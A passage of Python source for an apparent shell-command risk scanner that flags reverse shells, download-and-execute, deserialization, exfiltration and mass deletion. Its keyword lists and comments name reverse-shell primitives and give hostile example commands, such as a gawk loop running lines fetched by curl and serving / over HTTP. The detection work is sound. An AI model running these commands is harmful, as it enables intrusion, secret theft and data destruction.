        sources = W.option_values(args, "-i", "--index-url", "--extra-index-url", "-f", "--find-links")
        for host in W.option_values(args, "--trusted-host"):
            if not (internal_host(host.lower()) or loopback_url(host)):
                # an index on the internet with its certificate unchecked: whoever sits on the path serves the code
                self._add("shell.tls-off", RiskLevel.HIGH, Category.NETWORK,
                          f"{name} installs from {host} with TLS checks off (--trusted-host)", node)  # fmt: skip
                break
        # values of options: indexes (judged above) and settings, not package archives
        settings = {"--proxy", "--cert", "--client-cert", "--trusted-host", "--log", "-i", "--index-url",
                    "--extra-index-url", "-f", "--find-links"}  # fmt: skip
        archives = [
            a for i, a in enumerate(args) if "://" in a and not a.startswith("-") and args[i - 1] not in settings
        ]
        self._unverified_source(name, sources + archives, node)
        self._archive_from_website(name, archives, node)

    def _archive_from_website(self, name: str, archives: list[str], node: Any) -> None:
        """A package archive installed straight from a web site that is neither an index nor a code host (`pip
        install https://…/x.tar.gz`, `pnpm add https://…/plugin.tgz`): its build or install scripts run now."""
        for url in archives:
            host = url.split("://", 1)[-1].split("/", 1)[0].split("@")[-1].split(":")[0].lower()
            if url.startswith("https://") and not host.endswith(T.KNOWN_CODE_HOSTS):
                self._add("shell.untrusted-install", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                          f"{name} installs a package archive from {host} (its build code runs at install)",
                          node)  # fmt: skip
                break

    def _rule_node_packages(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        """npm, yarn and pnpm: TLS turned off in their settings, or a package archive installed from a web site."""
        self._rule_tls_off(name, args, node, flow)
        if args[:1] in (["install"], ["i"], ["add"]):
            urls = [a for a in args[1:] if a.startswith("https://")]
            archives = [u for u in urls if u.split("?", 1)[0].endswith((".tgz", ".tar.gz"))]
            self._archive_from_website(name, archives, node)

    def _unverified_source(self, name: str, sources: list[str], node: Any) -> None:
        """Packages from a plain-HTTP or bare-IP index, registry or URL: install scripts from a server
        nobody can verify (dependency confusion, a man in the middle)."""
        for source in sources:
            host = source.split("://", 1)[-1].split("/", 1)[0].split("@")[-1].split(":")[0]
            local = host in ("localhost", "127.0.0.1", "::1") or host.endswith(".local")
            if not local and (source.startswith(("http://", "git+http://")) or host.replace(".", "").isdigit()):
                self._add(
                    "shell.untrusted-install",
                    RiskLevel.HIGH,
                    Category.DYNAMIC_CODE,
                    f"{name} installs packages from {source.split('://', 1)[0]}://{host} (unverified code runs at"
                    " install and import)",
                    node,
                )
                return

    def _runner_source(self, runner: RunnerCall, argv: list[str], node: Any, flow: _Flow) -> None:
        """Code a tool runner fetches from a repository or a URL runs now, unreviewed; what it is handed
        (the environment, secrets on stdin) goes wherever that code sends it."""
        if runner.remote:
            everything = runner.runner == "deno run" and all_permissions(argv)
            level = RiskLevel.MEDIUM if runner.pinned and not everything else RiskLevel.HIGH
            self._add("shell.remote-code", level, Category.DYNAMIC_CODE,
                      f"{runner.runner} runs code fetched from {runner.source.replace(HOLE, '…')}"
                      + (" (pinned)" if runner.pinned else " (a repository's moving head or a URL, unreviewed)")
                      + (" with every permission" if everything else ""), node)  # fmt: skip
        if (self._stdin_secret or flow.env) and runner.runner != "uv run":
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"{runner.runner} hands secret data or the environment to {runner.source} (code fetched at "
                      "run time)", node)  # fmt: skip

    def _python_module(self, args: list[str], node: Any) -> None:
        """``python -m http.server --directory /`` publishes a directory to the network."""
        if args[:1] == ["pip"]:
            self._rule_pip("pip", args[1:], node, _Flow())
            return
        if args[:1] == ["pickle"]:
            # `python -m pickle FILE` unpickles FILE to print it (running whatever it was built to run)
            files = [a for a in args[1:] if not a.startswith("-")]
            fetched = any(f in self.downloaded or posixpath.basename(f) in self.downloaded or self._in_clone(f)
                          for f in files)  # fmt: skip
            # a file others send in (an uploads folder) is as foreign as a download
            fetched = fetched or any(set(f.lower().split("/")) & _UPLOAD_FOLDERS for f in files)
            if files:
                self._add("shell.deserialization", RiskLevel.CRITICAL if fetched else RiskLevel.MEDIUM,
                          Category.DESERIALIZATION, "python -m pickle unpickles "
                          + ("a file downloaded or uploaded by others" if fetched else "a file (can run code)"),
                          node)  # fmt: skip
            return
        if not args or args[0] not in ("http.server", "SimpleHTTPServer", "uploadserver", "pyftpdlib"):
            return
        directory = self._cwd or "."
        for i, arg in enumerate(args):
            if arg in ("-d", "--directory") and i + 1 < len(args):
                directory = args[i + 1]
        info = paths.classify(directory)
        exposed = info.kind in (paths.PathKind.ROOT, paths.PathKind.SYSTEM_TOP, paths.PathKind.HOME_TOP)
        # a data share (`/srv/edc/exports`) on every interface: its records, to whoever can reach the port
        everywhere = not any(a in ("-b", "--bind") for a in args) or any(
            b in ("0.0.0.0", "::", "") for b in W.option_values(args, "-b", "--bind"))  # fmt: skip
        shared_data = info.kind is paths.PathKind.EXTERNAL and HOLE not in directory and everywhere
        exposed = exposed or (everywhere and paths.holds_app_secrets(directory))
        # an installed application's whole folder (its settings, database and keys beside what it serves itself)
        app_root = re.fullmatch(
            r"/(?:var/www|srv|opt)/([\w.-]+)(?:/(?:data|storage|config|var|uploads|files|media))?/?", directory
        )
        exposed = exposed or (everywhere and app_root is not None and app_root[1] not in ("html", "public", "static"))
        if exposed or shared_data or info.secret or paths.personal_media(directory):
            self._add(
                "shell.file-server",
                RiskLevel.HIGH,
                Category.EXFILTRATION,
                f"serves {paths.describe(info)} over the network",
                node,
            )

    def _embedded_commands(self, name: str, code: str, node: Any, awk: bool = False) -> bool:
        """Analyse constant shell commands that inline code of another language runs."""
        found = False
        if name in ("octave", "octave-cli", "matlab"):
            # `system('bash -c ''…''')`: a quote inside a single-quoted string is doubled
            code = _DOUBLED_QUOTE_CALL.sub(lambda m: 'system("' + m[1].replace("''", "'") + '")', code)
        commands = [m.group("cmd") or m.group("bt") or "" for m in _EMBEDDED_COMMAND.finditer(code)]
        commands += [m.group("cmd") for m in _SHELL_C_ARGV.finditer(code)]
        if awk:
            commands += [a or b for a, b in _AWK_PIPE.findall(code)]
        for command in commands[:4]:
            command = command.replace('\\"', '"').replace("\\'", "'")
            if command.strip():
                found = True
                self._nested(command, "shell", node, f"command run by inline {name} code")
        return found

    def _rule_awk(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        i = 0
        while i < len(args) and args[i].startswith("-") and args[i] != "--":
            i += 2 if args[i] in ("-F", "-v", "-f") else 1
        if args[i : i + 1] == ["--"]:
            i += 1
        if i < len(args) and "-f" not in args:
            program = awk_with_constants(args[i]) if "system" in args[i] else args[i]
            if "/inet/tcp/" in program or "/inet/udp/" in program or "/inet4/" in program or "/inet6/" in program:
                # gawk's network special files: with |& getline and commands it is a remote shell
                flow.network = True
                shell = "|&" in program and ("getline" in program or "system" in program)
                self._add(
                    "shell.reverse-shell" if shell else "shell.network",
                    RiskLevel.CRITICAL if shell else RiskLevel.HIGH,
                    Category.NETWORK,
                    f"{name} opens a network connection"
                    + (" and runs the commands it receives (reverse shell)" if shell else ""),
                    node,
                )
            if re.search(r'printf?\s*\(?\s*"/dev/"', program):
                flow.text = "/dev/" + HOLE  # `lsblk -ndo NAME | awk '{print "/dev/"$1}'`: device paths
            files = [a for a in args[i + 1 :] if not a.startswith("-")]
            fetched = any(f in self.downloaded or posixpath.basename(f) in self.downloaded for f in files)
            # `c = "curl -s URL"; while ((c | getline l) > 0) system(l)`: each line a download prints, run
            piped = re.search(r"\(\s*(\w+)\s*\|\s*getline\s+(\w+)", program)
            source = re.search(rf"\b{piped[1]}\s*=\s*\"([^\"]*)\"", program) if piped else None
            if piped and source and re.search(r"\b(?:curl|wget|nc|fetch)\b", source[1]) and re.search(
                rf"system\s*\(\s*{piped[2]}\s*\)", program
            ):
                self._add("shell.download-exec", RiskLevel.CRITICAL, Category.DYNAMIC_CODE,
                          f"{name} runs each line a download prints as a command (getline, then system)",
                          node)  # fmt: skip
            if re.search(r"system\s*\(\s*\$\w+\s*\)", program) and (flow.remote or self._stdin_remote or fetched):
                self._add("shell.remote-command", RiskLevel.CRITICAL, Category.DYNAMIC_CODE,
                          f"{name} runs fields of downloaded data as commands (system($N))", node)  # fmt: skip
            else:
                self._embedded_commands(name, program, node, awk=True)
            if re.search(r"while\s*\(\s*1\s*\)|for\s*\(\s*;\s*;\s*\)", program) and not re.search(
                r"\b(?:exit|break)\b|getline|system\s*\(", program
            ):
                self._add(
                    "shell.endless-loop",
                    RiskLevel.HIGH,
                    Category.RESOURCE,
                    f"{name} program loops forever (CPU or memory exhaustion)",
                    node,
                )
            if self._stdin_pids is not None and re.search(r"""system\s*\(\s*["']kill\b""", program):
                # `ps aux | awk '/x/ { system("kill " $2) }'` kills what the listing and the regex select
                regex = re.search(r"/((?:\\.|[^/])+)/", program)
                self._kill_by_name(f"{name} system(kill)", set(), [regex.group(1) if regex else self._stdin_pids], node)

    def _other_interpreter(
        self, name: str, code: str, node: Any, flag: str, positional: Sequence[str] = ()
    ) -> None:
        # No parser for these languages: analyse the constant commands it hands to a shell, look
        # for the socket+process shape of a reverse shell, otherwise report the code at LOW.
        if name in EDITORS:
            self._rule_editor(name, ["--eval" if name not in VIMS else "-c", code], node, _Flow())  # Emacs Lisp
            return
        if name in ("powershell", "pwsh") and flag.lower() in ("-enc", "-encodedcommand", "-e", "-ec"):
            script = _encoded_powershell(code)
            if script is not None:
                code = script  # what it runs is the decoded script (still an encoded command: reported below)
                for risk in windows_text_risks(script):
                    self._add("shell.windows", risk.level, risk.category, f"{name} -enc: {risk.what}", node)
        code = fold_requires(code) if "require" in code or "import" in code else code
        embedded = self._embedded_commands(name, code, node)
        for command in inline_commands(code, positional):
            embedded = True  # its file-system calls, as the shell commands with the same effect
            self._nested(command, "shell", node, f"inline {name} code", keep=RiskLevel.MEDIUM)
        growth = endless_growth(code)
        if growth:
            embedded = True
            self._add("shell.unbounded-growth", RiskLevel.HIGH, Category.RESOURCE,
                      f"inline {name} code fills the {growth} in an endless loop", node)  # fmt: skip
        for literal in _BASE64_LITERAL.findall(code):
            decoded = W.apply_transform("b64", literal)
            if decoded and decoded.isprintable():
                embedded = self._embedded_commands(name, decoded, node) or embedded
        for literal in _HEX_LITERAL.findall(code):  # perl's `eval pack "H*", "7379…"`, `hex2bin("…")`
            hexed = bytes.fromhex(literal).decode("utf-8", "replace")
            if hexed.isprintable():
                embedded = self._embedded_commands(name, hexed, node) or embedded
        lowered = code.lower()
        if name == "osascript":
            embedded = self._applescript(lowered, node) or embedded
        if _ORM_MASS_DELETE.search(code):
            production = self._production()
            embedded = True
            self._add("shell.data-destroy", RiskLevel.HIGH if production else RiskLevel.MEDIUM, Category.FILESYSTEM,
                      f"inline {name} code deletes or publishes every record of a model"
                      + (" (production)" if production else ""), node)  # fmt: skip
        if _ORM_SECOND_FACTOR_OFF.search(code):
            embedded = True
            self._add("shell.app-admin", RiskLevel.HIGH, Category.PRIVILEGE,
                      f"inline {name} code strips every account's second factor (a password alone logs anyone in)",
                      node)  # fmt: skip
        if _INLINE_OPENED.search(code):
            embedded = True
            self._add("shell.app-admin", RiskLevel.HIGH, Category.PRIVILEGE,
                      f"inline {name} code lets anonymous visitors in (no login required, or permissions given to "
                      "anonymous users)", node)  # fmt: skip
        if _INLINE_ADMIN.search(code):
            production = self._production()
            embedded = True
            self._add("shell.app-admin", RiskLevel.HIGH if production or personal_mailbox(code) else RiskLevel.MEDIUM,
                      Category.PRIVILEGE, f"inline {name} code makes an application account an administrator"
                      + (" in production" if production else ""), node)  # fmt: skip
        sockety = any(
            k in lowered
            for k in ("socket", "tcpsocket", "fsockopen", "net.connect", "/dev/tcp", "net.socket", "io::socket",
                      "net.dial(", "tcpstream::connect")
        )
        spawns = any(
            k in lowered
            for k in ("exec", "/bin/sh", "/bin/bash", "spawn", "system", "popen", "proc_open", "cmd.exe", "`")
        )
        downloads = any(k in lowered for k in T.INLINE_DOWNLOADS) or _FETCH_FROM_SETTING.search(code) is not None
        evaluates = any(k in lowered for k in T.INLINE_EVALS)
        # `STAGE=$(curl …)` earlier, then `perl -e 'eval … $ENV{STAGE}'`: the variable's content came from the network
        downloads = downloads or any(self.var_flow[v].remote for v in _env_names(code) if v in self.var_flow)
        # `php -r '… file_get_contents($argv[1]) …' "http://…"`: a URL handed in as an argument and fetched
        downloads = downloads or (
            any("://" in p for p in positional) and any(k in lowered for k in _URL_READERS)
        )
        deserializes = any(k in lowered for k in T.INLINE_DESERIALIZERS) or (
            # Julia's Serialization, R's saved workspaces and objects: code restored with the data
            ("serialization" in lowered and "deserialize(" in lowered)
            or (name in ("Rscript", "R") and _R_RESTORE.search(code) is not None)
        )
        reads_download = any(d in code for d in self.downloaded if len(d) > 3) or any(
            p in self.downloaded for p in positional  # `ruby - "$dir/export.bin" <<'RUBY'`: its ARGV
        )
        # files others can drop in (an upload or shared folder) are as foreign as a download
        places = [*positional, *re.findall(r"['\"](/[^'\"]+)['\"]", code)]
        dropped = any(set(p.lower().split("/")) & T.DROP_BOXES for p in places) or any(
            # a web application's temporary upload folder (`/var/www/wiki/images/temp`): what visitors sent
            _WEB_UPLOAD_TEMP.search(posixpath.join(self._cwd or "", p)) for p in places
        )
        if deserializes and dropped and not (downloads or self._stdin_remote or reads_download):
            self._add("shell.deserialization", RiskLevel.HIGH, Category.DESERIALIZATION,
                      f"inline {name} code deserializes files others can drop in (can run arbitrary code)",
                      node)  # fmt: skip
        if deserializes and (downloads or self._stdin_remote or reads_download or (sockety and "accept" in lowered)):
            self._add(
                "shell.deserialization",
                RiskLevel.CRITICAL,
                Category.DESERIALIZATION,
                f"inline {name} code deserializes data from the network (can run arbitrary code)",
                node,
            )
        elif _REQUEST_EXEC.search(code) or _REQUEST_SINK.search(code) or _php_tainted_sink(code):
            self._add(
                "shell.remote-code",
                RiskLevel.CRITICAL,
                Category.DYNAMIC_CODE,
                f"inline {name} code runs (or unserializes, or writes to) what a web request sent",
                node,
            )
        elif (reads_people(code) or personal_data_query(code)) and any(k in lowered for k in _INLINE_POSTS):
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"inline {name} code queries people's records and sends them over the network", node)  # fmt: skip
        elif any(k in lowered for k in T.INLINE_ENV_DUMPS) and (downloads or sockety or uploads_stdin(code) or any(
            k in lowered for k in _INLINE_POSTS
        )):
            self._add(
                "shell.exfiltration",
                RiskLevel.CRITICAL,
                Category.EXFILTRATION,
                f"inline {name} code sends the process environment over the network",
                node,
            )
        elif downloads and evaluates:
            self._add(
                "shell.download-exec",
                RiskLevel.CRITICAL,
                Category.DYNAMIC_CODE,
                f"inline {name} code downloads code and runs it",
                node,
            )
        elif reads_download and _EVALUATES_TEXT.search(code):
            self._add("shell.download-exec", RiskLevel.CRITICAL, Category.DYNAMIC_CODE,
                      f"inline {name} code evaluates a file the script downloaded", node)  # fmt: skip
        elif (
            "fork" in lowered or "mcparallel(" in lowered or ("spawn" in lowered and "process.execpath" in lowered)
        ) and any(k in lowered for k in ("while", "loop", "until", "for(;;)", "repeat", "setinterval(")):
            self._add(
                "shell.fork-bomb",
                RiskLevel.CRITICAL,
                Category.RESOURCE,
                f"inline {name} code forks in a loop (fork bomb)",
                node,
            )
        elif serves_requested_files(code):
            self._add("shell.file-server", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"inline {name} code serves whatever file a request names (every file it can read)",
                      node)  # fmt: skip
        elif sockety and spawns:
            self._add(
                "shell.reverse-shell",
                RiskLevel.CRITICAL,
                Category.NETWORK,
                f"inline {name} code connects a socket to a process (reverse shell)",
                node,
            )
        elif evaluates and any(k in lowered for k in T.INLINE_DECODERS):
            self._add(
                "shell.decoded-exec",
                RiskLevel.HIGH,
                Category.DYNAMIC_CODE,
                f"inline {name} code decodes a hidden payload and runs it",
                node,
            )
        elif flag.lower() in ("-enc", "-encodedcommand"):
            self._add(
                "shell.decoded-exec", RiskLevel.HIGH, Category.DYNAMIC_CODE, f"{name} runs an encoded command", node
            )
        elif not embedded:
            self._add(
                "shell.inline-code",
                RiskLevel.LOW,
                Category.DYNAMIC_CODE,
                f"runs inline {name} code that is not analysed",
                node,
            )

    def _applescript(self, lowered: str, node: Any) -> bool:
        """What AppleScript can do that a shell command cannot show: root prompts, fake dialogs, login items."""
        found = False
        if "with administrator privileges" in lowered:
            found = True
            self._add(
                "shell.privilege",
                RiskLevel.HIGH,
                Category.PRIVILEGE,
                "osascript runs a shell command as root (asks for the administrator password)",
                node,
            )
        if "display dialog" in lowered and "hidden answer" in lowered:
            found = True
            self._add(
                "shell.credential-prompt",
                RiskLevel.HIGH,
                Category.EXFILTRATION,
                "osascript shows a password dialog (a fake system prompt collects the password)",
                node,
            )
        if "login item" in lowered and "make" in lowered:
            found = True
            self._add(
                "shell.persistence",
                RiskLevel.HIGH,
                Category.PERSISTENCE,
                "osascript adds a login item (runs at every login)",
                node,
            )
        return found

    def _rule_eval(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        code = " ".join(args)
        if node is not None and _SHELL_HOOK.match(self._text(node)) and not flow.remote:
            return  # `eval "$(starship init zsh)"`: an installed tool's own shell integration
        if node is not None and _CREDENTIAL_EXPORT.match(self._text(node)):
            # the cloud CLI's own `export` lines: the profile's credentials, loaded into this shell only
            self._add("shell.env-file", RiskLevel.MEDIUM, Category.EXFILTRATION,
                      f"{name} loads a cloud profile's credentials into the environment", node)  # fmt: skip
            return
        if flow.remote:
            self._add(
                "shell.download-exec",
                RiskLevel.CRITICAL,
                Category.DYNAMIC_CODE,
                f"{name} runs code that was downloaded or decoded",
                node,
            )
        elif code.strip(HOLE + " \"'") == "" and node is not None and self._evals_read_line(node):
            self._add(
                "shell.data-exec",
                RiskLevel.HIGH,
                Category.DYNAMIC_CODE,
                f"{name} runs lines read from another command's output (whoever wrote them writes the code)",
                node,
            )
        elif code.strip(HOLE + " \"'") == "" and flow.data:
            # `hook=$(jq -r .cmd "$payload"); eval "$hook"`: whoever wrote the data writes the code
            self._add(
                "shell.data-exec",
                RiskLevel.HIGH,
                Category.DYNAMIC_CODE,
                f"{name} runs code taken from a data file or a JSON document",
                node,
            )
        elif code.strip(HOLE + " \"'") == "":
            self._add(
                "shell.dynamic-code",
                RiskLevel.LOW,
                Category.DYNAMIC_CODE,
                f"{name} runs code produced at run time",
                node,
            )
        else:
            self._nested(code, "shell", node, name)

    def _evals_read_line(self, node: Any) -> bool:
        text = self._text(node)
        return any(f"${v}" in text or f"${{{v}}}" in text for v in self._read_vars)

    def _rule_source(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        env_file = bool(args) and (posixpath.basename(args[0]).startswith(".env") or args[0].endswith(".env"))
        if env_file and not flow.remote:
            # loads the project's (or a service's `/etc/app/app.env`) settings into its own shell: the secrets stay
            # in this process
            self._add(
                "shell.env-file",
                RiskLevel.MEDIUM,
                Category.EXFILTRATION,
                f"{name} loads {args[0]} (secrets) into the environment",
                node,
            )
            return
        if args:
            info = paths.classify(args[0])
            if info.secret or info.history:
                self._read(info, node, flow, name)
            written = self._written_texts.get(info.path)
            if written is not None:
                # a settings file this script wrote, sourced: its assignments are this shell's variables now
                for match in _ASSIGNMENT_LINE.finditer(written):
                    self.vars[match["name"]] = match["value"]
        if flow.remote:
            self._add(
                "shell.download-exec",
                RiskLevel.CRITICAL,
                Category.DYNAMIC_CODE,
                f"{name} runs code that was downloaded or decoded",
                node,
            )
        elif args and (args[0] in self.downloaded or posixpath.basename(args[0]) in self.downloaded):
            self._runs_download(name, args[0], node)

    def _runs_download(self, name: str, path: str, node: Any) -> None:
        """A downloaded file run (or sourced): someone else's code, unless it is a named release over HTTPS."""
        pinned = (path in self.pinned or posixpath.basename(path) in self.pinned) and not self._in_clone(path)
        self._add("shell.download-exec", RiskLevel.MEDIUM if pinned else RiskLevel.CRITICAL, Category.DYNAMIC_CODE,
                  f"{name} runs " + ("a named release or a local service's file" if pinned
                                     else "a file that was downloaded from the network"), node)  # fmt: skip

    def _rule_rm(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        flags, operands = W.options(args)
        recursive = bool(flags & {"r", "R", "--recursive"}) or name in ("rmdir",)
        if "--no-preserve-root" in flags:
            self._add(
                "shell.delete",
                RiskLevel.CRITICAL,
                Category.FILESYSTEM,
                "rm --no-preserve-root disables the guard against deleting /",
                node,
            )
        if self._xargs_remote and operands:
            self._add("shell.delete", RiskLevel.HIGH, Category.FILESYSTEM,
                      f"{name} deletes the paths a download lists (whoever serves it picks them)", node)  # fmt: skip
        # `cd /var/lib/postgresql/15/main/pg_wal && rm 0000*`: relative names below a system or data folder
        base = self._cwd if self._cwd and HOLE not in self._cwd and paths.irreplaceable_folder(self._cwd) else None
        for target in operands:
            if target in self._encrypted and paths.classify(target).kind is paths.PathKind.RELATIVE:
                continue  # the plaintext of a file `sops -e` just encrypted beside it: the ciphertext stays
            where = posixpath.join(base, target) if base and not target.startswith(("/", "~", "$", HOLE)) else target
            self._delete(where, node, recursive=recursive and name != "rmdir", via=name)
            unguarded = node is None or ":?" not in self._text(node)
            # (`"$DATA"/../*` with `DATA="$ROOT/data"`: the `..` climbs back to the variable's own value)
            if recursive and unguarded and target.startswith(HOLE) and (
                _ONLY_VARIABLES.fullmatch(target) or _ONLY_VARIABLES.fullmatch(posixpath.normpath(target))
            ):
                self._add(
                    "shell.delete",
                    RiskLevel.HIGH,
                    Category.FILESYSTEM,
                    f"{name} recursively deletes {target.replace(HOLE, '$…')}: with the variables empty or unset "
                    "that is / (use ${VAR:?})",
                    node,
                )
            elif recursive and unguarded and target == HOLE + "*" and self._cwd in ("~", "$HOME", "/"):
                self._add("shell.delete", RiskLevel.HIGH, Category.FILESYSTEM,
                          f"{name} recursively deletes $…* in {self._cwd}: with the variable empty or unset that is "
                          "everything there (use ${VAR:?})", node)  # fmt: skip

    def _rule_shred(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        _, operands = W.options(args)
        for target in operands:
            if target in self._made_keys or target in self._created:
                continue  # a throwaway key this script generated, destroyed when done with
            if self._system_cwd() and not target.startswith(("/", "~", "$", HOLE, "-")):
                target = posixpath.join(self._cwd or ".", target)  # (`cd /srv/app && shred -u bookings.sqlite3`)
            info = paths.classify(target)
            level = max(paths.delete_level(info, recursive=self._mass), paths.write_level(info))
            if info.kind in (paths.PathKind.EXTERNAL, paths.PathKind.SYSTEM) and paths.database_file(target):
                level = max(level, RiskLevel.HIGH)  # a service's database (or its write-ahead log), unrecoverable
            many = "*" in target or HOLE in target or bool(self._loops)
            if many and info.kind in (paths.PathKind.EXTERNAL, paths.PathKind.SYSTEM, paths.PathKind.HOME):
                level = max(level, RiskLevel.HIGH)  # a folder's files (or a loop's) destroyed beyond recovery
            if target in self._encrypted_inputs and not (self._loops or self._repeated or self._mass):
                # the plaintext of one copy this script just encrypted (every file of a tree, each encrypted and
                # shredded in a loop, is held to ransom)
                level = min(level, RiskLevel.MEDIUM)
            listed = self._repeated and target.startswith(HOLE) and info.kind is paths.PathKind.UNKNOWN
            if listed:
                level = max(level, RiskLevel.HIGH)  # `… | xargs shred -u`: whatever a listing names, unrecoverable
            if level > RiskLevel.LOW:
                self._add(
                    "shell.history-tamper" if info.history else "shell.delete",
                    level,
                    Category.PERSISTENCE if info.history else Category.FILESYSTEM,
                    f"{name} destroys " + ("every file its input lists" if listed else paths.describe(info)),
                    node,
                )

    def _rule_find(self, name: str, args: list[str], node: Any, flow: _Flow) -> None:
        roots: list[str] = []
        i = 0
        while i < len(args) and not (args[i].startswith("-") or args[i] in ("(", "!", "\\(")):
            roots.append(args[i])
            i += 1
        roots = roots or ["."]
        if self._cwd and paths.classify(self._cwd).kind in (paths.PathKind.HOME_TOP, paths.PathKind.ROOT):
            # `cd "$HOME"; find . -name '.*' -exec rm -rf {} +`: the tree is the home (or the whole machine)
            roots = [posixpath.normpath(posixpath.join(self._cwd, r)) if not r.startswith(("/", "~")) else r
                     for r in roots]  # fmt: skip
        expr = args[i:]
        flow.listing = roots[0]
        patterns = [expr[k + 1].lower() for k, a in enumerate(expr[:-1]) if a in ("-name", "-iname", "-path", "-ipath")]
        hunting = any(p in pattern for pattern in patterns for p in T.SECRET_FILE_PATTERNS)
        if any(_ID_DOCUMENT_NAME.search(pattern) or _PEOPLE_FILE_NAME.search(pattern) for pattern in patterns):
            # `find uploads -iname '*passport*' | tar czf x -T -`: scans of people's identity documents; `find
            # /mnt/shared -iname '*customer*.csv'`: the lists of people a share holds
            self._bulk_files.add(roots[0])
        # (`find ~/keystore -name key.pem -exec chmod 600 {} +`: the keys' permissions tightened, nothing read)
        hunting = hunting and not _TIGHTENS_ONLY.search(" ".join(expr))
        outside = any(
            paths.classify(r).kind not in (paths.PathKind.WORKDIR, paths.PathKind.RELATIVE, paths.PathKind.TEMP)
            for r in roots
        )
        if hunting and outside:
            flow.secret = True
            self._add(
                "shell.credential-search",
                RiskLevel.HIGH,
                Category.EXFILTRATION,
                f"find searches {' '.join(roots)} for key or credential files",
                node,
            )
        tests = ("-name", "-iname", "-path", "-ipath", "-regex", "-newer", "-mtime", "-mmin", "-cmin", "-amin", "-size",
                 "-user", "-empty")  # fmt: skip
        # find evaluates left to right: `-delete -name '*.swp'` deletes everything before the test is read
        before_delete = expr[: expr.index("-delete")] if "-delete" in expr else expr
        filtered = any(a in tests for a in before_delete)
        # `-mtime +0`, `-mmin +5`: older than a day or a few minutes (under an hour), nearly everything a tree holds
        trivial_age = [k for k, a in enumerate(before_delete[:-1]) if (a, before_delete[k + 1]) in _TRIVIAL_AGES
                       or (a == "-mmin" and re.fullmatch(r"\+[1-5]?\d", before_delete[k + 1]))]  # fmt: skip
        # (in an application's own temporary folder, even files a few minutes old are what a clean-up removes)
        scratch = bool(roots) and all(paths.application_scratch(r) for r in roots)
        if trivial_age and not scratch and not any(a in tests and a not in ("-mtime", "-mmin") for a in before_delete):
            filtered = False
        aged = (not trivial_age or scratch) and any(
            a in _AGE_TESTS for a in before_delete
        )
        if "-delete" in expr:
            # only .DS_Store, *.pyc...: and no ungrouped -o, which would apply -delete to another branch
            grouped = not any(a in ("-o", "-or") for a in expr) or "(" in expr or "\\(" in expr
            junk = bool(patterns) and grouped and filtered and all(p in paths.JUNK_NAMES for p in patterns)
            no_age = not any(a in _AGE_TESTS for a in before_delete)
            recoveries = bool(patterns) and no_age and all(_RECOVERY_FILE.fullmatch(p) for p in patterns)
            kept = (paths.PathKind.RELATIVE, paths.PathKind.WORKDIR, paths.PathKind.TEMP)
            foreign_roots = [r for r in roots if paths.classify(r).kind not in kept]
            if recoveries and foreign_roots:
                # every backup, dump and disk image of a tree, whatever its age: nothing to restore from
                where = foreign_roots[0].replace(HOLE, "…")
                self._add("shell.delete", RiskLevel.HIGH, Category.FILESYSTEM,
                          f"find -delete removes every backup, dump or disk image under {where}", node)  # fmt: skip
            # (`-mtime +0`, older than a day, is nearly every file: no age test at all)
            media = bool(patterns) and (no_age or bool(trivial_age)) and all(_MEDIA_FILE.fullmatch(p) for p in patterns)
            regenerated = any(w in foreign_roots[0].lower() for w in ("cache", "thumb", "tmp", "temp", "transcode",
                                                                      "preview", "proxies")) if foreign_roots else True
            if media and foreign_roots and not recoveries and not regenerated:
                # every video, photo, document or data file of a shared tree, whatever its age: the library itself
                where = foreign_roots[0].replace(HOLE, "…")
                self._add("shell.delete", RiskLevel.HIGH, Category.FILESYSTEM,
                          f"find -delete removes every media, document or data file under {where}", node)  # fmt: skip
            # `find /srv/clinic -type f -mtime +1 -delete`: a whole share or data folder, with no name test and an age
            # of days, is nearly everything it holds (its records' last changes are older than that)
            short_age = [int(before_delete[k + 1].lstrip("+")) for k, a in enumerate(before_delete[:-1])
                         if a == "-mtime" and re.fullmatch(r"\+?[0-7]", before_delete[k + 1])]  # fmt: skip
            whole_share = [r for r in foreign_roots if _DATA_FOLDER_ROOT.fullmatch(r.rstrip("/"))]
            if short_age and not patterns and whole_share and not regenerated:
                self._add("shell.delete", RiskLevel.HIGH, Category.FILESYSTEM,
                          f"find -delete removes every file older than {short_age[0]} day(s) across the whole of "
                          f"{whole_share[0].rstrip('/')} (nearly everything it holds)", node)  # fmt: skip
            # `find /var/lib/teleport/log -mtime -2 -delete`: the newest logs, audit records or recordings (what
            # just happened), not old ones rotated
            recent = any(a in ("-mtime", "-mmin", "-ctime") and before_delete[k + 1].startswith("-")
                         for k, a in enumerate(before_delete[:-1]))  # fmt: skip
            if recent and any(_RECORD_FOLDER.search(r) for r in roots):
                self._add("shell.history-tamper", RiskLevel.HIGH, Category.PERSISTENCE,
                          "find -delete removes the most recent logs, audit records or recordings", node)  # fmt: skip
            elif foreign_roots and not regenerated and (window_days := _recent_window_days(before_delete)) >= 7:
                # `-mtime -30` where a clean-up means `+30`: every file changed in the last month goes, old ones stay
                self._add("shell.delete", RiskLevel.HIGH, Category.FILESYSTEM,
                          f"find -delete removes every file changed in the last {window_days} "
                          f"days under {foreign_roots[0].replace(HOLE, '…')} (the newest work, not old files)",
                          node)  # fmt: skip
            # `-newermt '… 21:00' ! -newermt '… 03:00'`: the files of one chosen window (what happened then)
            window = [k for k, a in enumerate(before_delete) if a.startswith("-newer") and len(a) > 6]
            if len(window) >= 2 and any(before_delete[k - 1] in ("!", "-not") for k in window if k):
                self._add("shell.delete", RiskLevel.HIGH, Category.FILESYSTEM,
                          "find -delete removes the files of one chosen time window (the record of what happened "
                          "then)", node)  # fmt: skip
            # `-type l` / `-xtype l` before -delete: only links go, never what they point at
            links_only = any(before_delete[k : k + 2] in (["-type", "l"], ["-xtype", "l"])
                             for k in range(len(before_delete)))  # fmt: skip
            for root in roots:
                if links_only:
                    self._add("shell.delete", RiskLevel.LOW, Category.FILESYSTEM,
                              f"find -delete removes symbolic links under {root.replace(HOLE, '…')}", node)  # fmt: skip
                elif "-empty" in before_delete and "d" in W.option_values(expr, "-type"):
